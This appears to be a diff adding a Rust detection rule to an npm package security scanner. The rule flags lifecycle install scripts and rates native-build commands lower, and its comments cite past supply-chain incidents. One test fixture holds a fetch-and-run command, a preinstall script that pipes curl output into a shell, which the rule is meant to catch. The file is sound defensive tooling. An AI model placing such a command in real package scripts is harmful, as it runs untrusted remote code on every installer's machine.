@@ -1,0 +1,58 @@
+//! Rule `install-script`.
+
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::Emitter;
+
+crate::declare_rule! {
+    /// The package declares a lifecycle script that npm runs on install (preinstall, install,
+    /// postinstall; prepare for git and local installs). Most malware runs from here, because it
+    /// runs without the victim ever importing the package. Native builds (`node-gyp rebuild`,
+    /// `node-gyp-build`, `prebuild-install`) are weighed low.
+    id: "install-script",
+    category: Install,
+    severity: Medium,
+    capability: Some(crate::model::Capability::InstallScript),
+    title: "runs a lifecycle script on install",
+    incident: "Shai-Hulud (2025), ua-parser-js 0.7.29 (2021), eslint-scope 3.7.2 (2018): all started from install scripts",
+    case_file: "package.json",
+    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
+           r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl x | sh"}}"#],
+    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"test":"node test.js","build":"tsc"}}"#],
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in pkg
+        .files
+        .iter()
+        .filter(|f| f.kind == crate::package::FileKind::Shell)
+    {
+        let Some((name, _)) = &f.script else { continue };
+        let cmd = f.text.trim();
+        let native = [
+            "node-gyp rebuild",
+            "node-gyp-build",
+            "prebuild-install",
+            "node-pre-gyp install",
+            "cmake-js",
+        ]
+        .iter()
+        .any(|n| cmd.starts_with(n));
+        let sev = if name == "prepare" || native {
+            Severity::Low
+        } else {
+            Severity::Medium
+        };
+        out.hit_ev(
+            sev,
+            pkg,
+            f,
+            0,
+            format!(
+                "runs `{}` when the package is installed",
+                crate::package::one_line(cmd)
+            ),
+            cmd,
+        );
+    }
+}
